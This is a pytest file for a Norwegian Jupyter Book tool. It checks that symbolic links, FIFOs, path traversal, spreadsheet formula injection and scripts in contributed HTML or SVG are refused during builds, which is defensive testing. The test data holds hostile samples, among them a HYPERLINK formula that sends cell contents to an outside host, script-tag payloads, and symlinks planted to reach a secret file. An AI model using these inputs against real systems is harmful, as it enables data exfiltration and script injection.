"""Nothing outside the repository is read into any output, and no write leads out of the book.

Symbolic links (every one, also a link to another file of the book) and special files (a FIFO) are
refused wherever the book reads: `check`, `validate`, `regenerate`, `sirkbok build` and a plain
`jupyter-book build` name the file and stop before reading it. The site copies figures and data
without following a link. Writers (`new-chapter`, `regions`, the figure export, the commit of a
notebook's figures) resolve their targets with `core.files.inside` first, so a link that leads out
writes nothing. Published data CSVs quote formula-like text as the templates and figures do.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import pytest
from conftest import SECRET, leaks, state
from sirkbok.core.errors import UserError

BIN = Path(sys.executable).parent
LINKED = "Dette er en symbolsk lenke"
SPECIAL = "Dette er ikke en vanlig fil"
REGION = "chapters/regioner/hadelandsregionen"


def run(*args: str, root: Path, program: str = "sirkbok") -> subprocess.CompletedProcess[str]:
    """The real command against the book at `root`; a reader that opened a FIFO would hang, so a
    time limit turns that into a failure."""
    env = dict(os.environ, SIRKBOK_ROOT=str(root))
    return subprocess.run(
        [str(BIN / program), *args],
        cwd=root,
        env=env,
        text=True,
        capture_output=True,
        timeout=300,
    )


def replace_with_link(path: Path, target: Path) -> None:
    """`path` (a file or a folder of the book) becomes a symbolic link to `target`."""
    if path.is_dir():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)
    path.symlink_to(target, target_is_directory=target.is_dir())


def outside_copy(source: Path, secret: Path) -> Path:
    """A copy of a folder of the book beside the secret (outside the book), with the secret in it."""
    target = secret.parent / source.name
    shutil.copytree(source, target)
    shutil.copy(secret, target / "hemmelig.csv")
    return target


# Each plants one hostile thing in the book and returns the name the answer must give.
def linked_data_file(book: Path, secret: Path) -> str:
    replace_with_link(book / "data/aktorer.csv", secret)
    return "data/aktorer.csv"


def linked_data_folder(book: Path, secret: Path) -> str:
    replace_with_link(book / "data", outside_copy(book / "data", secret))
    return "data"


def linked_descriptor(book: Path, secret: Path) -> str:
    shutil.copy(book / "data/datapackage.json", secret.parent / "datapackage.json")
    replace_with_link(book / "data/datapackage.json", secret.parent / "datapackage.json")
    return "data/datapackage.json"


def link_inside_the_book(book: Path, secret: Path) -> str:
    (book / "data/kopi.csv").symlink_to("aktorer.csv")  # points inside data/: refused all the same
    return "data/kopi.csv"


def fifo_in_data(book: Path, secret: Path) -> str:
    os.mkfifo(book / "data/rør.csv")
    return "data/rør.csv"


def linked_chapter(book: Path, secret: Path) -> str:
    (book / REGION / "lenke.md").symlink_to(secret)
    return f"{REGION}/lenke.md"


def linked_region_folder(book: Path, secret: Path) -> str:
    replace_with_link(book / REGION, outside_copy(book / REGION, secret))
    return REGION


def link_in_figures(book: Path, secret: Path) -> str:
    (book / "chapters/tema/figurer/hemmelig.csv").symlink_to(secret)
    return "chapters/tema/figurer/hemmelig.csv"


def link_in_static(book: Path, secret: Path) -> str:
    (book / "_static/hemmelig.txt").symlink_to(secret)
    return "_static/hemmelig.txt"


def linked_toc(book: Path, secret: Path) -> str:
    shutil.copy(book / "_toc.yml", secret.parent / "_toc.yml")
    replace_with_link(book / "_toc.yml", secret.parent / "_toc.yml")
    return "_toc.yml"


Plant = Callable[[Path, Path], str]
FOLDERS: list[Plant] = [linked_data_folder, linked_region_folder]
DATA: list[Plant] = [
    linked_data_file,
    linked_data_folder,
    linked_descriptor,
    link_inside_the_book,
    fifo_in_data,
]
BOOK: list[Plant] = [
    linked_chapter,
    linked_region_folder,
    link_in_figures,
    link_in_static,
    linked_toc,
]


def refused(result: subprocess.CompletedProcess[str], name: str) -> str:
    """The command failed with a Norwegian message naming `name`, and read none of the secret."""
    err = result.stderr
    assert result.returncode == 1, (result.returncode, result.stdout, err)
    assert f"feil: {name}: " in err, err
    assert LINKED in err or SPECIAL in err, err
    assert SECRET not in result.stdout + err
    return err


@pytest.mark.parametrize("plant", DATA + BOOK, ids=lambda p: p.__name__)
def test_check_refuses_a_link_or_special_file_anywhere_the_book_reads(
    plant: Plant, book: Path, outside_secret: Path
) -> None:
    name = plant(book, outside_secret)
    before = state(book)
    err = refused(run("check", "--skip-figures", root=book), name)
    if plant is not fifo_in_data:
        assert "Fant: «en lenke til " in err  # where it points
    assert state(book) == before


@pytest.mark.parametrize("plant", DATA, ids=lambda p: p.__name__)
def test_validate_refuses_a_link_or_special_file_in_data(
    plant: Plant, book: Path, outside_secret: Path
) -> None:
    name = plant(book, outside_secret)
    before = state(book)
    err = refused(run("validate", root=book), name)
    assert "Datapakken er ikke gyldig" in err
    assert state(book) == before


def test_every_reader_of_the_descriptor_refuses_a_linked_one(
    book: Path, outside_secret: Path, tmp_path: Path
) -> None:
    """Not only `validate`: the Excel template (and every other reader) finds the descriptor
    through `descriptor.descriptor`, which refuses a link before reading it."""
    name = linked_descriptor(book, outside_secret)
    before = state(book)
    refused(
        run("template", "--table", "kommuner", "--out", str(tmp_path / "k.xlsx"), root=book), name
    )
    assert not (tmp_path / "k.xlsx").exists()
    assert state(book) == before


@pytest.mark.parametrize(
    "plants",
    [[p for p in DATA + BOOK if p not in FOLDERS], FOLDERS],
    ids=["filer", "mapper"],  # a linked folder would hide what is planted inside it
)
def test_every_build_refuses_before_reading_and_publishes_nothing(
    plants: list[Plant], book: Path, outside_secret: Path, tmp_path: Path
) -> None:
    """A book with every hostile thing at once: the plain Jupyter Book build and `sirkbok build`
    (`make book`) each name every one, stop before reading, and publish no byte of the secret."""
    names = [plant(book, outside_secret) for plant in plants]
    before = state(book)
    out = tmp_path / "bygg"
    plain = run("build", str(book), "--path-output", str(out), root=book, program="jupyter-book")
    assert plain.returncode != 0
    assert "Boka ble ikke bygget" in plain.stdout + plain.stderr
    ours = run("build", root=book)
    assert ours.returncode == 1
    for name in names:
        assert f"feil: {name}: " in plain.stdout + plain.stderr
        assert f"feil: {name}: " in ours.stderr, ours.stderr
    for result in (plain, ours):
        assert SECRET not in result.stdout + result.stderr
    assert leaks(out) == []
    assert not (book / "_build/html").exists() or leaks(book / "_build") == []
    assert state(book) == before


def test_regenerate_refuses_a_linked_figure_folder(book: Path, outside_secret: Path) -> None:
    outside = outside_secret.parent / "figurer"
    outside.mkdir()
    replace_with_link(book / "chapters/tema/figurer", outside)
    before = state(book)
    refused(run("regenerate", "--force", "--only", "biogass", root=book), "chapters/tema/figurer")
    assert list(outside.iterdir()) == []
    assert state(book) == before


def test_the_figure_export_refuses_a_figure_folder_that_leads_out(
    tmp_path: Path, outside_secret: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import altair as alt
    import pandas as pd
    from sirkbok.reader import charts

    chapter = tmp_path / "kapittel"
    chapter.mkdir()
    (chapter / "figurer").symlink_to(outside_secret.parent, target_is_directory=True)
    monkeypatch.chdir(chapter)  # as in Jupyter: figures go to figurer/ beside the notebook
    table = pd.DataFrame({"a": ["x"], "b": [1]})
    with pytest.raises(UserError, match="peker ut av mappa") as refusal:
        charts.publish(alt.Chart(table).mark_bar().encode(x="a", y="b"), "f", "F", "Alt.", table)
    assert "figurer" in str(refusal.value)
    assert sorted(p.name for p in outside_secret.parent.iterdir()) == ["hemmelig.txt"]


def test_committing_figures_refuses_a_target_that_leads_out(
    book: Path, outside_secret: Path, tmp_path: Path
) -> None:
    """The last step of a notebook's run: a linked figure folder, or a figure key in the
    notebook's metadata that leads out, moves, writes and deletes nothing."""
    from sirkbok.run import execute

    notebook = book / "chapters/tema/biogass.ipynb"
    staged = tmp_path / "stage.svg"
    staged.write_text("<svg/>", encoding="utf-8")
    outside = outside_secret.parent / "figurer"
    outside.mkdir()
    (book / "chapters/lenke").symlink_to(outside, target_is_directory=True)
    before = state(book)

    def made_before(figures: dict[str, str]) -> SimpleNamespace:
        return SimpleNamespace(metadata={"sirkbok": {"provenance": {"figures": figures}}})

    with pytest.raises(UserError, match="peker ut av mappa"):
        execute._commit(
            book, notebook, "ny", {"chapters/lenke/x.svg": (staged, "h")}, made_before({})
        )
    with pytest.raises(UserError, match="peker ut av mappa"):  # a key that would delete the secret
        execute._commit(book, notebook, "ny", {}, made_before({"../utenfor/hemmelig.txt": "h"}))
    assert staged.is_file() and outside_secret.is_file() and list(outside.iterdir()) == []
    assert state(book) == before


def test_municipality_pages_are_not_written_through_a_folder_that_leads_out(
    book: Path, outside_secret: Path
) -> None:
    from sirkbok.run import instances

    outside = outside_copy(book / "chapters/kommuner", outside_secret)
    (outside / "3236.ipynb").unlink()  # a page `sync` would write again
    replace_with_link(book / "chapters/kommuner", outside)
    listing = sorted(p.name for p in outside.iterdir())
    before = state(book)
    with pytest.raises(UserError, match="chapters/kommuner/3236.ipynb: Stien peker ut av mappa"):
        instances.sync(book)
    assert sorted(p.name for p in outside.iterdir()) == listing
    assert state(book) == before


def test_new_chapter_refuses_a_region_folder_that_leads_out(
    book: Path, outside_secret: Path
) -> None:
    outside = outside_copy(book / REGION, outside_secret)
    replace_with_link(book / REGION, outside)
    listing = sorted(p.name for p in outside.iterdir())
    before = state(book)
    result = run(
        "new-chapter", "--region", "hadelandsregionen", "--theme", "tekstiler",
        "--title", "Ombruk av tekstiler på Hadeland", root=book,
    )  # fmt: skip
    assert result.returncode == 1
    assert f"{REGION}/ombruk-av-tekstiler-pa-hadeland.md: Stien peker ut av mappa" in result.stderr
    assert "Ingenting er skrevet" in result.stderr
    assert sorted(p.name for p in outside.iterdir()) == listing
    assert state(book) == before


def test_regions_refuses_a_landing_page_that_leads_out(book: Path, outside_secret: Path) -> None:
    from sirkbok.book import regions

    outside = outside_copy(book / REGION, outside_secret)
    page = outside / "index.md"
    text = page.read_text(encoding="utf-8")
    start, end = text.index(regions.BLOCK_MARK), text.index(regions.BLOCK_END)
    page.write_text(text[:start] + regions.BLOCK_START + "\nutdatert\n" + text[end:], "utf-8")
    stale = page.read_bytes()
    replace_with_link(book / REGION, outside)
    before = state(book)
    result = run("regions", root=book)
    assert result.returncode == 1
    assert f"{REGION}/index.md: Stien peker ut av mappa" in result.stderr
    assert page.read_bytes() == stale
    assert state(book) == before


def test_the_site_copy_never_follows_a_link(
    book: Path, outside_secret: Path, tmp_path: Path
) -> None:
    """The copy step itself (the build refuses earlier, but a link made during a build must not
    be followed either): it refuses before copying, and never enters a linked folder."""
    from sirkbok.book import site_copy
    from sirkbok.core.files import copy_plain

    out = tmp_path / "html"
    replace_with_link(book / REGION, outside_copy(book / REGION, outside_secret))
    (outside_secret.parent / REGION.split("/")[-1] / "figurer").mkdir()
    site_copy.copy_figures(book, out)  # the linked region folder is never entered
    assert not (out / REGION).exists()
    figure = link_in_figures(book, outside_secret)
    with pytest.raises(UserError, match=LINKED):
        site_copy.copy_figures(book, out)
    (book / figure).unlink()
    linked_data_file(book, outside_secret)
    with pytest.raises(site_copy.Refused, match="data/aktorer.csv"):
        site_copy.publish(book, out)
    folder = tmp_path / "mappe"
    folder.mkdir()
    os.mkfifo(folder / "rør")
    with pytest.raises(UserError, match=SPECIAL):
        copy_plain(folder, tmp_path / "kopi", tmp_path)
    assert not (tmp_path / "kopi").exists()
    assert leaks(out) == []


def test_a_link_that_reaches_the_copy_is_removed_from_the_output(
    outside_secret: Path, tmp_path: Path
) -> None:
    """A link that arrives in the output after the check (a race, or left there by an earlier run)
    is found in the copy: the copied folder is removed from the output and the copy refused."""
    from sirkbok.core.files import copy_plain

    folder = tmp_path / "figurer"
    folder.mkdir()
    (folder / "figur.csv").write_text("a;b\n1;2\n", encoding="utf-8")
    out = tmp_path / "html" / "figurer"
    out.mkdir(parents=True)
    (out / "hemmelig.csv").symlink_to(outside_secret)
    with pytest.raises(UserError, match=LINKED):
        copy_plain(folder, out, tmp_path)
    assert not out.exists() and outside_secret.is_file()
    assert leaks(tmp_path / "html") == []


FORMULAS = ('=HYPERLINK("http://example.org/?"&A1,"Klikk her")', "@SUM(1+1)", "-1+2", "+47 61 00")


def test_formula_safe_quotes_text_and_leaves_numbers() -> None:
    from sirkbok.book.site_copy import formula_safe

    text = 'a,b,c,d\n=1+1,-5,"\tx",-0.25e3\n"\rz",@x,+4,12\n'
    rows = list(csv.reader(io.StringIO(formula_safe(text), newline="")))
    assert rows == [
        ["a", "b", "c", "d"],
        ["'=1+1", "-5", "'\tx", "-0.25e3"],
        ["'\rz", "'@x", "'+4", "12"],
    ]
    assert formula_safe("a,b\n1,-2\n") == "a,b\n1,-2\n"  # nothing to quote: the same bytes


def test_published_data_csvs_are_formula_safe(book: Path, tmp_path: Path) -> None:
    """One real build: formula-like text in aktorer.csv is quoted in the site's copy (as the
    templates and figure CSVs are), numbers and every other cell are as in data/, the repository's
    data is untouched, and the published datapackage.json still describes the published files."""
    from sirkbok.book.build import strict_command
    from sirkbok.datapackage.validate import validate_package

    source = book / "data/aktorer.csv"
    rows = list(csv.reader(io.StringIO(source.read_text(encoding="utf-8"), newline="")))
    column = rows[0].index("beskrivelse")
    for row, formula in zip(rows[1:], FORMULAS, strict=False):
        row[column] = formula
    written = io.StringIO()
    csv.writer(written, lineterminator="\n").writerows(rows)
    source.write_text(written.getvalue(), encoding="utf-8")
    before = state(book)
    out = tmp_path / "bygg"
    result = subprocess.run(strict_command(book, out), text=True, capture_output=True, cwd=book)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    site = out / "_build/html/data"
    for path in sorted((book / "data").glob("*.csv")):
        original = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
        published = list(csv.reader(io.StringIO((site / path.name).read_text("utf-8"), newline="")))
        assert len(published) == len(original)
        for old_row, new_row in zip(original, published, strict=True):
            for old, new in zip(old_row, new_row, strict=True):
                risky = old.startswith(("=", "+", "-", "@", "\t", "\r"))
                number = old.lstrip("-").replace(".", "", 1).isdigit()
                assert new == ("'" + old if risky and not number else old), (path.name, old, new)
    published = list(csv.reader(io.StringIO((site / "aktorer.csv").read_text("utf-8"), newline="")))
    assert [row[column] for row in published[1 : len(FORMULAS) + 1]] == ["'" + f for f in FORMULAS]
    assert (site / "datapackage.json").read_bytes() == (book / "data/datapackage.json").read_bytes()
    assert validate_package(site).problems == []
    assert state(book) == before


ACTIVE = {
    # A page, an SVG and a script in a region's folder, and a page in data/: each was published on
    # the book's own address as it was (figures and data are copied whole, a linked file becomes
    # a download), where a reader who opens it runs its script as the book's own.
    f"{REGION}/figurer/side.html": "<script>document.title = 'kjørte'</script>",
    f"{REGION}/figurer/bilde.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
    f"{REGION}/vedlegg.js": "alert(1)",
    "data/side.html": "<script>1</script>",
}


def test_a_contribution_publishes_no_page_svg_or_script(book: Path, tmp_path: Path) -> None:
    for name, content in ACTIVE.items():
        (book / name).parent.mkdir(parents=True, exist_ok=True)
        (book / name).write_text(content, "utf-8")
    with open(book / f"{REGION}/index.md", "a", encoding="utf-8") as chapter:
        chapter.write("\nSe [vedlegget](vedlegg.js) og ![kart](figurer/bilde.svg).\n")
    before = state(book)
    checked = run("check", "--skip-figures", root=book)
    out = tmp_path / "bygg"
    plain = run("build", str(book), "--path-output", str(out), root=book, program="jupyter-book")
    for result in (checked, plain):
        assert result.returncode != 0
        for name in ACTIVE:
            assert (
                f"feil: {name}: Filer av denne typen kan ikke ligge"
                in result.stdout + result.stderr
            )
    assert not list(out.rglob("bilde.svg"))
    assert not list(out.rglob("side.html")) and not list(out.rglob("vedlegg.js"))
    assert state(book) == before
